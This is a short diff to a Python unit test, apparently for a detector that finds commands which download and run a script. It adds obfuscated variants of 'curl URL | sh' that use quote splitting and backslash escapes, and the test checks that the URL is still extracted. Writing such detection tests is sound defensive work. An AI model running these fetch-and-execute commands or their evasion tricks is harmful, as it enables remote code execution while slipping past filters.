@@ -69,6 +69,9 @@ class RunsWhatItDownloads(unittest.TestCase):
             "curl -oi.sh https://a.example/i.sh; sh i.sh",
             "curl -s https://a.example/i.sh | xargs -0 sh -c",
             "curl -o i.sh https://a.example/i.sh; bash -o pipefail i.sh",
+            "c''url https://a.example/i.sh | sh",
+            "cu\\rl https://a.example/i.sh | sh",
+            "cu\\\nrl https://a.example/i.sh | sh",
             "curl -s https://a.example/i.sh | xargs -I{} bash -c '{}'",
         ]:
             self.assertEqual(urls(command), ["https://a.example/i.sh"], command)
